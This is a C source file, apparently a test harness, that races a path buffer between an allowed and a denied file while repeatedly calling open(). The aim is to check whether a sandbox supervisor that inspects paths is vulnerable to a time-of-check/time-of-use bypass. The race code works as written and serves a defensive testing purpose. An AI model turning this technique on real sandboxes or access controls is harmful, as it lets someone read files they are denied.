/*
 * toctou_open ALLOWED DENIED SECONDS [MARKER]
 *
 * The classic time-of-check/time-of-use attack on a supervisor that checks
 * a path in the target's memory and lets the kernel open it afterwards.
 * One thread flips a shared path buffer between ALLOWED and DENIED (equal
 * length, one memcpy each, in a tight loop); the main thread calls
 * open(buf, O_RDONLY) in a loop for SECONDS and reads what it opened.
 * Content containing MARKER (default "SECRET", which the test writes into
 * DENIED and not into ALLOWED) means the denied file was obtained.
 *
 * Prints one line:
 *	denied_wins=N allowed_ok=M eacces=E enoent=X other=O opens=T
 * Exit 1 if N > 0, 2 on usage or setup errors, 0 otherwise.
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static char buf[4096];
static const char *paths[2];
static size_t plen;
static volatile int stop;

static void *
flipper(void *arg)
{
	(void)arg;
	while (!stop) {
		memcpy(buf, paths[1], plen);
		__asm__ __volatile__("" ::: "memory");
		memcpy(buf, paths[0], plen);
		__asm__ __volatile__("" ::: "memory");
	}
	return NULL;
}

static double
now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

int
main(int argc, char **argv)
{
	unsigned long denied = 0, allowed = 0, eacces = 0, enoent = 0;
	unsigned long other = 0, opens = 0;
	const char *marker = "SECRET";
	char data[256];
	pthread_t th;
	double end;
	long n;
	int fd;

	if (argc < 4 || argc > 5) {
		fprintf(stderr,
		    "usage: toctou_open ALLOWED DENIED SECONDS [MARKER]\n");
		return 2;
	}
	paths[0] = argv[1];
	paths[1] = argv[2];
	if (argc == 5)
		marker = argv[4];
	plen = strlen(argv[1]) + 1;
	if (plen != strlen(argv[2]) + 1 || plen > sizeof(buf)) {
		fprintf(stderr, "toctou_open: paths must have equal length\n");
		return 2;
	}
	memcpy(buf, paths[0], plen);
	if (pthread_create(&th, NULL, flipper, NULL) != 0) {
		fprintf(stderr, "toctou_open: pthread_create failed\n");
		return 2;
	}
	end = now_s() + atof(argv[3]);
	while (now_s() < end) {
		opens++;
		fd = open(buf, O_RDONLY);
		if (fd < 0) {
			if (errno == EACCES)
				eacces++;
			else if (errno == ENOENT)
				enoent++;
			else
				other++;
			continue;
		}
		n = read(fd, data, sizeof(data) - 1);
		close(fd);
		data[n > 0 ? n : 0] = '\0';
		if (strstr(data, marker) != NULL)
			denied++;
		else
			allowed++;
	}
	stop = 1;
	pthread_join(th, NULL);
	printf("denied_wins=%lu allowed_ok=%lu eacces=%lu enoent=%lu "
	       "other=%lu opens=%lu\n",
	    denied, allowed, eacces, enoent, other, opens);
	return denied > 0 ? 1 : 0;
}
